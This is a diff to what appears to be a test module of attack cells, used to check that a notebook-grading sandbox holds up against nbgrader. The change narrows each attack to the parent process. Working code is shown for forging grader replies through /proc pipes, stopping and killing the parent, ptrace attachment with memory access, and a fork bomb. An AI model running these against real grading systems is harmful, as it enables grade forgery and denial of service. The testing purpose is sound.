@@ -2,7 +2,8 @@
 them. Each is a cell added to an otherwise correct notebook 1. The isolation tests grade each
 one followed by an honest student on the same worker; bench/attacks.py runs them against
 stock nbgrader too. Every attack is bounded in time and size, since under stock nbgrader it
-runs unconfined on the grading machine."""
+runs unconfined on the grading machine: each reaches only its own parent, never every
+process of the machine."""
 from __future__ import annotations
 
 from dataclasses import dataclass
@@ -37,28 +38,25 @@ if os.fork() == 0:
     os._exit(0)
 time.sleep(0.2)
 """),
-    Attack("forged-reply", "writes a well-formed reply (a frame and a JSON line) into every pipe of every process "
-           "it can open through /proc", """
+    Attack("forged-reply", "opens /proc/<parent pid>/fd/* and writes a well-formed reply (a frame and a JSON "
+           "line) into each pipe", """
 import os, json, struct
 forged = json.dumps({"nonce": "0" * 32, "outputs": [], "stopped": None, "truncated": False, "seconds": 0.0})
 payload = struct.pack(">I", len(forged)) + forged.encode() + b"\\n" + forged.encode() + b"\\n"
 reached = 0
-for entry in os.listdir('/proc'):
-    if not entry.isdigit() or int(entry) == os.getpid():
-        continue
+try:
+    fds = os.listdir(f'/proc/{os.getppid()}/fd')
+except OSError:
+    fds = []
+for fd in fds:
     try:
-        fds = os.listdir(f'/proc/{entry}/fd')
+        path = f'/proc/{os.getppid()}/fd/{fd}'
+        if os.readlink(path).startswith('pipe:'):
+            with open(path, 'wb', buffering=0) as f:
+                f.write(payload)
+            reached += 1
     except OSError:
-        continue
-    for fd in fds:
-        try:
-            path = f'/proc/{entry}/fd/{fd}'
-            if os.readlink(path).startswith('pipe:'):
-                with open(path, 'wb', buffering=0) as f:
-                    f.write(payload)
-                reached += 1
-        except OSError:
-            pass
+        pass
 print('pipes reached:', reached)
 """),
     Attack("stop-parent", "sends SIGSTOP to its parent process", """
@@ -69,21 +67,19 @@ os.kill(os.getppid(), signal.SIGSTOP)
 import os, signal
 os.kill(os.getppid(), signal.SIGKILL)
 """),
-    Attack("ptrace", "attaches with ptrace to every process it can see and reads its memory", """
+    Attack("ptrace", "attaches to its parent with ptrace and opens its memory", """
 import ctypes, os
 libc = ctypes.CDLL(None, use_errno=True)
-attached = 0
-for entry in os.listdir('/proc'):
-    if entry.isdigit() and int(entry) != os.getpid():
-        if libc.ptrace(16, int(entry), None, None) == 0:  # PTRACE_ATTACH
-            attached += 1
-            libc.ptrace(17, int(entry), None, None)  # PTRACE_DETACH
-        try:
-            open(f'/proc/{entry}/mem', 'rb').close()
-            attached += 1
-        except OSError:
-            pass
-print('attached:', attached)
+parent = os.getppid()
+attached = libc.ptrace(16, parent, None, None) == 0  # PTRACE_ATTACH
+if attached:
+    libc.ptrace(17, parent, None, None)  # PTRACE_DETACH
+try:
+    open(f'/proc/{parent}/mem', 'rb').close()
+    opened = True
+except OSError:
+    opened = False
+print('attached:', attached, 'memory opened:', opened)
 """),
     Attack("fork-bomb", "forks up to 1,000 sleeping processes", """
 import os, time
